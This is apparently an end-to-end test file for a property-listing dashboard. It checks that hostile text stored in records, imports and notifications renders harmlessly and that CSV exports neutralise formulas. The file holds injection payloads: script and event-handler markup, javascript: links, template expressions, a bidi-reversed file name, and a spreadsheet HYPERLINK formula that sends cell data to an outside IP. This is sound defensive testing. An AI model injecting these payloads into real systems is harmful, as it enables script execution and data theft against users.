import type { Page } from 'puppeteer';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { generateSample } from '../../src/demo/sample.ts';
import { take } from '../../src/sdk/client.ts';
import { openTestBrowser, type Person, settle, type TestBrowser } from './support/browser.ts';
import { registerOrganisation, type SignedUp, signInto } from './support/people.ts';
import { seedCampaign, seedProperties } from './support/seed.ts';
import { type DashboardSystem, startDashboardSystem } from './support/system.ts';

const MARKUP = '<img src=x onerror=hostileRan=1><script>hostileRan=2</script>';
const ATTRIBUTE = `"><svg onload=hostileRan=3> ' onfocus=hostileRan=4 autofocus`;
const LINK = 'javascript:hostileRan=5';
const REVERSED = '\u202Egnp.exe\u2066';
/** No place to break: it would push the page wider. */
const LONG = 'Unbroken'.repeat(30);
const ALL = `${MARKUP} ${ATTRIBUTE} ${LINK} {{7*7}} \${7*7} ${REVERSED} ${LONG}`;
const FORMULA = '=HYPERLINK("http://203.0.113.9/?"&A1,"x")';

let system: DashboardSystem;
let browser: TestBrowser;
let admin: SignedUp;
const ids: Record<string, string> = {};

beforeAll(async () => {
  system = await startDashboardSystem();
  browser = await openTestBrowser(system.url);
  admin = await registerOrganisation(system.url, ALL.slice(0, 100));
  ids.campaign = (await seedCampaign(admin)).campaignId;
  ids.property = await seedProperties(system, admin, 12);
  await putIn();
});
afterAll(async () => {
  await browser?.close();
  await system?.close();
});

/** Through the API where it takes such text, else straight into the table, as a source might have brought it. */
async function putIn(): Promise<void> {
  const { query } = system.database;
  const { property } = ids as { property: string };
  const [row] = await query<{ tenant: string }>(
    `update properties set address = $1, city = $2, owner_name = $1, public_remarks = $1, property_type = $2,
       property_sub_type = $2, apn = $2, listing_url = $3, unit = $2, flood_zone = $2
     returning tenant_id as tenant`,
    [ALL, MARKUP, LINK],
  );
  const { tenant } = row!;
  await query(`update properties set city = $1, public_remarks = $1 where id = $2`, [FORMULA, property]);
  const [failed] = await query<{ id: string }>(
    `update properties set status = 'failed', failed_stage = 'enriched', failure_reason = $1
     where id = (select id from properties where id <> $2 limit 1) returning id`,
    [ALL, property],
  );
  ids.failed = failed!.id;
  await take(
    admin.api.POST('/api/v1/properties/{id}/comments', { params: { path: { id: property } }, body: { body: ALL } }),
  );
  await query(`insert into tags (tenant_id, name) values ($1, $2)`, [tenant, MARKUP.slice(0, 60)]);
  await query(
    `insert into property_tags (tenant_id, property_id, tag_id, created_by) select $1, $2, id, 'test' from tags`,
    [tenant, property],
  );
  await take(
    admin.api.POST('/api/v1/contacts', {
      body: { kind: 'owner', name: ALL.slice(0, 190), email: 'hostile@example.com', state: 'WA', tags: [] } as never,
    }),
  );
  await query(`update campaigns set name = $1, reason = $1`, [ALL.slice(0, 200)]);
  await query(`update user_accounts set name = $1 where email = $2`, [ALL, admin.email]);
  await query(
    `insert into notifications (tenant_id, user_id, kind, title, body, reference, property_id)
     values ($1, $2, $3, $4, $4, $5, null)`,
    [tenant, admin.session.user.id, MARKUP, ALL, `webhook:${LINK}`],
  );
  const file = await take<{ id: string }>(
    admin.api.POST('/api/v1/imports', {
      params: { query: { county: 'king-wa', file_name: `${MARKUP.replaceAll('/', '')}.csv` } },
      body: hostileFile() as never,
      bodySerializer: (body: unknown) => body as string,
      headers: { 'Content-Type': 'text/csv' },
    }),
  );
  ids.import = file.id;
  await take(
    admin.api.POST('/api/v1/imports/{id}/run', {
      params: { path: { id: file.id } },
      body: { start_lifecycles: false },
    }),
  );
  await vi.waitFor(async () => expect(await query(`select 1 from quarantine limit 1`)).toHaveLength(1), {
    timeout: 30_000,
    interval: 200,
  });
  await query(`update quarantine set row_reference = $1, source = $2`, [ALL, MARKUP]);
}

/** Rows that the reader refuses: what it refuses stands in its reasons. */
function hostileFile(): string {
  const [header = '', first = '', ...rows] = generateSample(4).trim().split('\n');
  const cells = first.split(',');
  const refused = cells.map((cell, at) => (at === 1 || at === 2 ? `"${ALL.replaceAll('"', '""')}"` : cell));
  return [header, refused.join(','), ...rows].join('\n');
}

const SCREENS: ReadonlyArray<readonly [name: string, path: string]> = [
  ['overview', '/'],
  ['list', '/properties'],
  ['map', '/properties?view=map'],
  ['list narrowed by such text', `/properties?q=${encodeURIComponent(MARKUP)}&city=${encodeURIComponent(ATTRIBUTE)}`],
  ['drawer', '/properties?property={property}'],
  ['property', '/properties/{property}'],
  ['property that failed', '/properties/{failed}'],
  ['contacts', '/contacts'],
  ['campaigns', '/campaigns'],
  ['campaign', '/campaigns/{campaign}'],
  ['market of such a name', `/market/trend?market=${encodeURIComponent(MARKUP)}`],
  ['deals', '/market/deals'],
  ['failures', '/operations/failures'],
  ['refused rows', '/operations/failures?part=rows'],
  ['audit', '/operations/audit'],
  ['upload', '/upload'],
  ['upload result', '/upload/{import}'],
  ['profile', '/settings'],
  ['users', '/settings/users'],
  ['an address that nobody knows', `/${encodeURIComponent(MARKUP)}`],
];

describe.each([
  { look: 'wide', width: 1280 },
  { look: 'phone', width: 390 },
])('text from outside, $look', { retry: 0 }, ({ width }) => {
  let person: Person;
  const dialogs: string[] = [];
  beforeAll(async () => {
    person = await browser.person({ width });
    person.page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await signInto(person, system.url, admin);
    return () => person.close();
  });

  it.each(SCREENS)('does nothing on the screen: %s', async (name, path) => {
    const { page } = person;
    person.complaints.length = 0;
    await page.goto(system.url + path.replace(/\{(\w+)\}/g, (_, id: string) => ids[id]!));
    await settle(page);
    if (/property/.test(name) || name === 'drawer') await openSections(page);
    await expectHarmless(person, dialogs);
    if (name === 'overview') await openNotifications(person, dialogs);
  });
});

it('is shown as the text that it is', async () => {
  const person = await browser.person();
  const { page } = person;
  try {
    await signInto(person, system.url, admin);
    const shown: Record<string, string> = {};
    for (const path of [
      '/properties',
      `/properties/${ids.property}`,
      '/contacts',
      '/campaigns',
      '/operations/failures',
      '/operations/failures?part=rows',
      '/upload',
    ]) {
      await page.goto(system.url + path);
      await settle(page);
      if (path.startsWith('/properties/')) await openSections(page);
      const mainText = () => page.evaluate(`document.querySelector('main').textContent`) as Promise<string>;
      await expect.poll(mainText, { timeout: 15_000, message: path }).toContain('<img src=x onerror=');
      shown[path] = await mainText();
    }
    expect(shown[`/properties/${ids.property}`]).toContain('{{7*7}}');
    expect(shown[`/properties/${ids.property}`]).toContain(FORMULA);
  } finally {
    await person.close();
  }
});

it('does not become a formula in a spreadsheet', async () => {
  for (const path of ['/api/v1/properties/export', `/api/v1/imports/${ids.import}/refused/export`]) {
    const answer = await fetch(system.url + path, {
      headers: { Authorization: `Bearer ${admin.session.access_token}`, Accept: 'text/csv' },
    });
    expect(`${path}: ${answer.status}`).toBe(`${path}: 200`);
    const text = await answer.text();
    expect(text).not.toMatch(/(^|,)"?[=@\t\r]/m);
    if (path.includes('properties')) expect(text).toContain(`'=HYPERLINK`);
  }
});

/** Presses the link of each part of the property, and opens what is folded. */
async function openSections(page: Page): Promise<void> {
  const names = (await page.evaluate(
    `[...document.querySelectorAll('nav[aria-label="Parts of this property"] a')].map((one) => one.hash)`,
  )) as string[];
  expect(names.length).toBeGreaterThan(4);
  for (const hash of names) {
    await page.evaluate(`document.querySelector('a[href="${hash}"]').click()`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  await settle(page);
  await page.evaluate(`for (const one of document.querySelectorAll('main details')) one.open = true`);
}

async function openNotifications(person: Person, dialogs: string[]): Promise<void> {
  await person.page.click('button[aria-label^="Notifications"]');
  await person.page.waitForFunction(`/onerror=/.test(document.querySelector('dialog[open]')?.textContent ?? '')`);
  await expectHarmless(person, dialogs);
}

async function expectHarmless({ page, complaints }: Person, dialogs: string[]): Promise<void> {
  const state = await page.evaluate(`({
    ran: window.hostileRan ?? null,
    images: [...document.querySelectorAll('img[src="x"], [onerror], [onload], [onfocus]')].length,
    links: [...document.querySelectorAll('a')].filter((one) => /^\\s*javascript:/i.test(one.getAttribute('href') ?? '')).length,
    wider: [...new Set([document.documentElement, document.body, document.querySelector('main'), ...document.querySelectorAll('dialog[open]')])]
      .filter((one) => one && one.scrollWidth > one.clientWidth + 1)
      .map((one) => one.tagName + ' ' + one.scrollWidth + ' in ' + one.clientWidth + ': ' + [...one.querySelectorAll('*')]
        .filter((part) => part.getBoundingClientRect().right > one.getBoundingClientRect().left + one.clientWidth + 1)
        .slice(0, 8).map((part) => part.tagName + '.' + part.className).join(' > ')),
    computed: /(^|\\s)49(\\s|$)/.test(document.title),
  })`);
  expect(state).toEqual({ ran: null, images: 0, links: 0, wider: [], computed: false });
  expect(dialogs).toEqual([]);
  expect(complaints).toEqual([]);
}
